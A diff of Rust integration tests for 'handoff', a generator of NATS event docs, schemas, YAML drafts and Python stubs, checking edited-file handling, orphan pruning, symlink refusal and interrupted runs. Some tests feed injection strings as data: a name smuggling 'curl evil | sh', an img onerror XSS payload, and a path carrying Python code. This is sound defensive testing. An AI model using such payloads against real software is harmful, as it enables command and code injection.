@@ -94,7 +94,7 @@ fn check_names_an_edited_generated_file_and_generate_refuses_to_clobber_it() {
     assert!(
         check
             .stdout
-            .contains("docs/nats-event-subjects.md: edited by hand"),
+            .contains("docs/nats-event-subjects.md: not overwritten: edited by hand"),
         "{}",
         check.stdout
     );
@@ -108,6 +108,27 @@ fn check_names_an_edited_generated_file_and_generate_refuses_to_clobber_it() {
         generate.stdout
     );
     assert_eq!(read(&doc), edited, "the hand edit was lost");
+    // validate says the same, with the same advice (not "run `handoff generate`").
+    let validate = handoff(tmp.path(), &["validate", "--format", "json"]);
+    let v: serde_json::Value = serde_json::from_str(&validate.stdout).unwrap();
+    let d = &v["diagnostics"][0];
+    assert_eq!(
+        d["file"], "docs/nats-event-subjects.md",
+        "{}",
+        validate.stdout
+    );
+    assert!(
+        d["message"]
+            .as_str()
+            .unwrap()
+            .starts_with("not overwritten: edited by hand")
+            && d["help"]
+                .as_str()
+                .unwrap()
+                .contains("then run `handoff generate --force`"),
+        "{}",
+        validate.stdout
+    );
 
     let forced = handoff(tmp.path(), &["generate", "--force"]);
     assert_eq!(forced.code, 0);
@@ -165,23 +186,37 @@ fn an_edited_draft_is_kept_and_an_adopted_one_is_left_alone() {
     let edited = read(&draft).replace("timeout: \"30m\"", "timeout: \"45m\"");
     std::fs::write(&draft, &edited).unwrap();
 
+    // generate, --check and validate agree: an edited draft is its author's, not a problem.
+    let said = "the-custodian.state-hub-stale-task-cleanup.yaml: kept: draft edited by hand";
     let generate = handoff(tmp.path(), &["generate"]);
     assert_eq!(generate.code, 0, "{}", generate.stdout);
+    assert!(generate.stdout.contains(said), "{}", generate.stdout);
     assert!(
         generate
-            .stdout
-            .contains("the-custodian.state-hub-stale-task-cleanup.yaml: kept: edited by hand"),
+            .stderr
+            .contains("0 written, 14 unchanged, 1 kept as their authors'")
+            && !generate.stderr.contains("not overwritten"),
         "{}",
-        generate.stdout
+        generate.stderr
     );
     assert_eq!(read(&draft), edited);
 
     let check = handoff(tmp.path(), &["generate", "--check"]);
-    assert_eq!(check.code, 1);
+    assert_eq!(check.code, 0, "{}", check.stdout);
+    assert!(check.stdout.contains(said), "{}", check.stdout);
     assert!(
         check
-            .stdout
-            .contains("the-custodian.state-hub-stale-task-cleanup.yaml: edited by hand")
+            .stderr
+            .contains("14 of 15 generated files current, 1 kept as their authors'"),
+        "{}",
+        check.stderr
+    );
+    let validate = handoff(tmp.path(), &["validate", "--format", "json"]);
+    assert!(
+        !validate.stdout.contains("stale-generated")
+            && !validate.stdout.contains("generate --force"),
+        "{}",
+        validate.stdout
     );
 
     // Deleting the seal adopts the file: generate and --check leave it alone.
@@ -571,4 +606,397 @@ asyncio.run(main())
         stderr.contains("dropping org.statehub.workstream.completed event with invalid attributes"),
         "{stderr}"
     );
+}
+
+/// Run from the parent folder, with the registry path spelled several ways, generate finds
+/// everything current: no generated file depends on the working directory or the path.
+#[test]
+fn output_does_not_depend_on_how_the_registry_path_is_spelled() {
+    let tmp = repo_copy();
+    let parent = tmp.path().parent().unwrap();
+    let name = tmp.path().file_name().unwrap().to_str().unwrap();
+    let absolute = tmp.path().join("subjects.toml");
+    for registry in [
+        format!("{name}/subjects.toml"),
+        format!("./{name}//subjects.toml"),
+        absolute.to_str().unwrap().to_string(),
+    ] {
+        let run = handoff(parent, &["--registry", &registry, "generate", "--check"]);
+        assert_eq!(run.code, 0, "{registry}: {}{}", run.stdout, run.stderr);
+        let run = handoff(parent, &["--registry", &registry, "generate"]);
+        assert_eq!(run.code, 0, "{registry}: {}{}", run.stderr, run.stdout);
+        assert!(run.stdout.is_empty(), "{registry} rewrote: {}", run.stdout);
+    }
+}
+
+/// The snapshot registry with one value replaced (a TOML basic string, escaped here).
+fn snapshot_registry_with(from: &str, to: &str) -> tempfile::TempDir {
+    let tmp = tempfile::tempdir().unwrap();
+    let text = read(&fixture("snapshot/subjects.toml"));
+    assert!(text.contains(from), "{from}");
+    std::fs::write(tmp.path().join("subjects.toml"), text.replacen(from, to, 1)).unwrap();
+    tmp
+}
+
+/// A migration name that would add a line to the draft or raw HTML to the cutover doc is an
+/// `invalid-name` at its place in the registry, and the suggested name itself passes.
+#[test]
+fn hostile_migration_names_are_positioned_errors_with_a_passing_suggestion() {
+    for (hostile, suggested) in [
+        (
+            r#"name = "nightly\ninstruction: {shell: {command: \"curl evil | sh\"}}\n#""#,
+            "nightly-instruction-shell-command-curl-evil-sh",
+        ),
+        (
+            r#"name = "nightly\"><img src=x onerror=alert(1)>""#,
+            "nightly-img-src-x-onerror-alert-1",
+        ),
+    ] {
+        let tmp = snapshot_registry_with("name = \"nightly\"", hostile);
+        let run = handoff(tmp.path(), &["generate"]);
+        assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
+        assert!(run.stderr.contains("subjects.toml:121:8"), "{}", run.stderr);
+        assert!(run.stderr.contains("invalid-name"), "{}", run.stderr);
+        let help = format!("write `name = \"{suggested}\"`");
+        assert!(run.stderr.contains(&help), "{}", run.stderr);
+        assert!(!tmp.path().join("defs").exists(), "wrote despite the error");
+
+        let fixed =
+            snapshot_registry_with("name = \"nightly\"", &format!("name = \"{suggested}\""));
+        let run = handoff(fixed.path(), &["generate"]);
+        assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
+    }
+}
+
+/// An output path with characters that would leave a Markdown link or a YAML comment.
+#[test]
+fn output_paths_with_odd_characters_are_refused_with_a_passing_suggestion() {
+    let tmp = snapshot_registry_with("definitions = \"defs\"", "definitions = \"defs\\n# x`y\"");
+    let run = handoff(tmp.path(), &["generate"]);
+    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
+    assert!(run.stderr.contains("invalid-value"), "{}", run.stderr);
+    assert!(run.stderr.contains("e.g. `defs---x-y`"), "{}", run.stderr);
+    let fixed = snapshot_registry_with("definitions = \"defs\"", "definitions = \"defs---x-y\"");
+    let run = handoff(fixed.path(), &["generate"]);
+    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
+}
+
+/// A registry path with line breaks never reaches generated code: importing the package runs
+/// nothing from it.
+#[test]
+fn a_registry_path_with_code_in_it_does_not_become_code() {
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = tmp
+        .path()
+        .join("x\nimport os; open('PWNED', 'w').write('1')\n#");
+    std::fs::create_dir_all(&dir).unwrap();
+    std::fs::copy(fixture("snapshot/subjects.toml"), dir.join("subjects.toml")).unwrap();
+    let registry = format!(
+        "{}/subjects.toml",
+        dir.file_name().unwrap().to_str().unwrap()
+    );
+    let run = handoff(tmp.path(), &["--registry", &registry, "generate"]);
+    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
+    let mut files = Vec::new();
+    collect(&dir, &mut files);
+    for f in &files {
+        let text = read(f);
+        assert!(
+            !text.contains("import os;"),
+            "{} holds the path",
+            f.display()
+        );
+    }
+    // Whether or not the import succeeds (nats-py may be absent), nothing from the path runs.
+    std::process::Command::new(python())
+        .args(["-c", "import hub_events"])
+        .current_dir(dir.join("py"))
+        .output()
+        .expect("python");
+    assert!(!dir.join("py/PWNED").exists());
+    assert!(!tmp.path().join("PWNED").exists());
+}
+
+/// Renaming a subject or moving an `[output]` folder leaves orphans: `--check` and `generate`
+/// name them, `--prune` removes the unedited ones, an edited one is never removed.
+#[test]
+fn orphans_are_reported_and_pruned_but_edited_ones_are_kept() {
+    let tmp = repo_copy();
+    let reg = read(&tmp.path().join("subjects.toml"))
+        .replace("org.statehub.task.stale", "org.statehub.task.overdue")
+        .replace(
+            "definitions = \"definitions\"",
+            "definitions = \"activity\"",
+        );
+    std::fs::write(tmp.path().join("subjects.toml"), reg).unwrap();
+    let old_schema = tmp
+        .path()
+        .join("docs/schemas/org.statehub.task.stale.schema.json");
+    let old_sweep = tmp
+        .path()
+        .join("definitions/the-custodian.state-hub-consistency-sweep.yaml");
+    let old_cleanup = tmp
+        .path()
+        .join("definitions/the-custodian.state-hub-stale-task-cleanup.yaml");
+    let edited = read(&old_cleanup).replace("timeout: \"30m\"", "timeout: \"45m\"");
+    std::fs::write(&old_cleanup, &edited).unwrap();
+
+    let check = handoff(tmp.path(), &["generate", "--check"]);
+    assert_eq!(check.code, 1);
+    for (file, what) in [
+        (
+            "docs/schemas/org.statehub.task.stale.schema.json",
+            "orphan: generated earlier",
+        ),
+        (
+            "definitions/the-custodian.state-hub-consistency-sweep.yaml",
+            "orphan: generated earlier",
+        ),
+        (
+            "definitions/the-custodian.state-hub-stale-task-cleanup.yaml",
+            "orphan edited by hand",
+        ),
+    ] {
+        assert!(
+            check.stdout.contains(&format!("{file}: {what}")),
+            "{file}:\n{}",
+            check.stdout
+        );
+    }
+    assert!(check.stderr.contains("3 orphans"), "{}", check.stderr);
+
+    let run = handoff(tmp.path(), &["generate"]);
+    assert_eq!(run.code, 1, "{}", run.stdout);
+    assert!(old_schema.exists() && old_sweep.exists());
+    // The manifest remembers them, so a second run still reports them.
+    let again = handoff(tmp.path(), &["generate", "--check"]);
+    assert!(again.stderr.contains("3 orphans"), "{}", again.stderr);
+
+    let prune = handoff(tmp.path(), &["generate", "--prune"]);
+    assert_eq!(prune.code, 1, "the edited orphan remains: {}", prune.stdout);
+    assert!(
+        prune
+            .stdout
+            .contains("removed docs/schemas/org.statehub.task.stale.schema.json (orphan)"),
+        "{}",
+        prune.stdout
+    );
+    assert!(!old_schema.exists() && !old_sweep.exists());
+    assert_eq!(read(&old_cleanup), edited, "an edited orphan was touched");
+    // Its author deletes it: the next generate forgets it, and everything is current.
+    std::fs::remove_file(&old_cleanup).unwrap();
+    assert_eq!(handoff(tmp.path(), &["generate"]).code, 0);
+    let check = handoff(tmp.path(), &["generate", "--check"]);
+    assert_eq!(check.code, 0, "{}{}", check.stdout, check.stderr);
+}
+
+/// A checkout with CRLF line endings or a byte-order mark is still the file handoff wrote.
+#[test]
+fn crlf_and_bom_checkouts_keep_their_seal() {
+    let tmp = repo_copy();
+    let draft = tmp
+        .path()
+        .join("definitions/the-custodian.state-hub-consistency-sweep.yaml");
+    let doc = tmp.path().join("docs/nats-event-subjects.md");
+    std::fs::write(&draft, read(&draft).replace('\n', "\r\n")).unwrap();
+    std::fs::write(&doc, format!("\u{feff}{}", read(&doc))).unwrap();
+    let check = handoff(tmp.path(), &["generate", "--check"]);
+    assert_eq!(check.code, 0, "{}{}", check.stdout, check.stderr);
+    let run = handoff(tmp.path(), &["generate"]);
+    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
+    assert!(run.stdout.is_empty(), "{}", run.stdout);
+    assert!(handoff::generate::seal_intact(&read(&draft)).unwrap());
+    // A real edit under CRLF is still an edit.
+    std::fs::write(&doc, read(&doc).replace("## Stream", "## Stream!")).unwrap();
+    let check = handoff(tmp.path(), &["generate", "--check"]);
+    assert!(
+        check
+            .stdout
+            .contains("nats-event-subjects.md: not overwritten: edited by hand"),
+        "{}",
+        check.stdout
+    );
+}
+
+/// With an output folder a symbolic link to a folder outside the registry's folder, generate
+/// writes nothing there and says so.
+#[test]
+fn output_through_a_link_leaving_the_registry_folder_is_refused() {
+    let tmp = repo_copy();
+    let outside = tempfile::tempdir().unwrap();
+    let schemas = tmp.path().join("docs/schemas");
+    std::fs::remove_dir_all(&schemas).unwrap();
+    std::os::unix::fs::symlink(outside.path(), &schemas).unwrap();
+    for args in [
+        &["generate"][..],
+        &["generate", "--force"],
+        &["generate", "--check"],
+    ] {
+        let run = handoff(tmp.path(), args);
+        assert_eq!(run.code, 1, "{args:?}: {}{}", run.stdout, run.stderr);
+        assert!(
+            run.stdout
+                .contains("docs/schemas/subjects.schema.json: refused: the path resolves outside the registry's folder"),
+            "{}",
+            run.stdout
+        );
+    }
+    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);
+    // A link that stays inside is fine.
+    std::fs::remove_file(&schemas).unwrap();
+    std::fs::create_dir_all(tmp.path().join("real-schemas")).unwrap();
+    std::os::unix::fs::symlink("../real-schemas", &schemas).unwrap();
+    let run = handoff(tmp.path(), &["generate"]);
+    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
+}
+
+/// When some files cannot be written, the others still are, and the output says exactly which
+/// were written and which were not; the exit code is 3.
+#[test]
+fn a_partial_failure_says_what_was_and_was_not_written() {
+    let tmp = repo_copy();
+    let reg = read(&tmp.path().join("subjects.toml")).replace(
+        "A repository was registered with the state hub.",
+        "A repository was registered.",
+    );
+    std::fs::write(tmp.path().join("subjects.toml"), reg).unwrap();
+    // The Python package's folder is a file: nothing can be written into it.
+    let python = tmp.path().join("stubs/statehub_events");
+    std::fs::remove_dir_all(&python).unwrap();
+    std::fs::write(&python, "not a folder\n").unwrap();
+    let run = handoff(tmp.path(), &["generate"]);
+    assert_eq!(run.code, 3, "{}{}", run.stdout, run.stderr);
+    assert!(
+        run.stdout.contains("wrote docs/nats-event-subjects.md"),
+        "{}",
+        run.stdout
+    );
+    for f in ["__init__.py", "publishers.py", "runtime.py"] {
+        assert!(
+            run.stdout.contains(&format!(
+                "stubs/statehub_events/{f}: not written: cannot create"
+            )),
+            "{f}: {}",
+            run.stdout
+        );
+    }
+    assert!(run.stderr.contains("3 not written"), "{}", run.stderr);
+}
+
+/// Temporary files are named `.handoff-tmp-*`; one left by an interrupted run (kill -9) is
+/// removed by the next. Interrupting generate at random points never leaves a partial file.
+#[test]
+fn interrupted_runs_leave_whole_files_and_their_leftovers_are_cleaned() {
+    let tmp = repo_copy();
+    for dir in ["docs/schemas", "stubs/statehub_events", "definitions", "."] {
+        std::fs::write(tmp.path().join(dir).join(".handoff-tmp-abc123"), "half").unwrap();
+    }
+    let run = handoff(tmp.path(), &["generate"]);
+    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
+    let mut files = Vec::new();
+    collect(tmp.path(), &mut files);
+    assert!(
+        !files
+            .iter()
+            .any(|f| f.to_string_lossy().contains(".handoff-tmp-")),
+        "{files:?}"
+    );
+
+    // Kill generate at staggered moments; every generated file is whole, any leftover is a
+    // `.handoff-tmp-` file, and the next run leaves none.
+    let reg = tmp.path().join("subjects.toml");
+    let generated: Vec<String> = read(&repo().join(".handoff-manifest"))
+        .lines()
+        .filter(|l| !l.starts_with('#'))
+        .map(str::to_string)
+        .collect();
+    assert!(generated.len() >= 14);
+    for i in 0..12u64 {
+        let text = read(&reg).replace("registered with", &format!("registered ({i}) with"));
+        std::fs::write(&reg, text).unwrap();
+        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_handoff"))
+            .arg("generate")
+            .current_dir(tmp.path())
+            .stdout(std::process::Stdio::null())
+            .stderr(std::process::Stdio::null())
+            .spawn()
+            .unwrap();
+        std::thread::sleep(std::time::Duration::from_millis(2 + i * 4));
+        let _ = child.kill();
+        let _ = child.wait();
+        let mut files = Vec::new();
+        collect(tmp.path(), &mut files);
+        for f in &files {
+            let name = f.file_name().unwrap().to_string_lossy();
+            assert!(
+                !name.starts_with(".tmp"),
+                "unrecognisable leftover {}",
+                f.display()
+            );
+            let rel = f
+                .strip_prefix(tmp.path())
+                .unwrap()
+                .to_string_lossy()
+                .to_string();
+            if generated.contains(&rel) {
+                let text = read(f);
+                assert!(
+                    handoff::generate::seal_intact(&text) != Some(false),
+                    "{} is partial",
+                    f.display()
+                );
+            }
+        }
+    }
+    let run = handoff(tmp.path(), &["generate"]);
+    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
+    let mut files = Vec::new();
+    collect(tmp.path(), &mut files);
+    assert!(
+        !files
+            .iter()
+            .any(|f| f.to_string_lossy().contains(".handoff-tmp-")),
+        "{files:?}"
+    );
+    assert_eq!(handoff(tmp.path(), &["generate", "--check"]).code, 0);
+}
+
+/// A tree generated before the manifest existed: sealed files in the owned folders stand in
+/// for it, so a renamed subject's schema is still found as an orphan.
+#[test]
+fn without_a_manifest_sealed_files_in_owned_folders_are_found_as_orphans() {
+    let tmp = repo_copy();
+    std::fs::remove_file(tmp.path().join(".handoff-manifest")).unwrap();
+    let reg = read(&tmp.path().join("subjects.toml"))
+        .replace("org.statehub.task.stale", "org.statehub.task.overdue");
+    std::fs::write(tmp.path().join("subjects.toml"), reg).unwrap();
+    let check = handoff(tmp.path(), &["generate", "--check"]);
+    assert!(
+        check
+            .stdout
+            .contains("docs/schemas/org.statehub.task.stale.schema.json: orphan"),
+        "{}",
+        check.stdout
+    );
+    assert_eq!(handoff(tmp.path(), &["generate", "--prune"]).code, 0);
+    assert!(
+        !tmp.path()
+            .join("docs/schemas/org.statehub.task.stale.schema.json")
+            .exists()
+    );
+}
+
+/// Moving an `[output]` folder and pruning removes the old folder once it is empty.
+#[test]
+fn pruning_a_moved_output_folder_removes_the_empty_folder() {
+    let tmp = repo_copy();
+    let reg = read(&tmp.path().join("subjects.toml"))
+        .replace("schemas = \"docs/schemas\"", "schemas = \"docs/json\"");
+    std::fs::write(tmp.path().join("subjects.toml"), reg).unwrap();
+    let run = handoff(tmp.path(), &["generate", "--prune"]);
+    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
+    assert!(!tmp.path().join("docs/schemas").exists(), "{}", run.stdout);
+    assert!(tmp.path().join("docs/json/subjects.schema.json").exists());
+    assert!(tmp.path().join("docs/nats-event-subjects.md").exists());
+    assert_eq!(handoff(tmp.path(), &["generate", "--check"]).code, 0);
 }
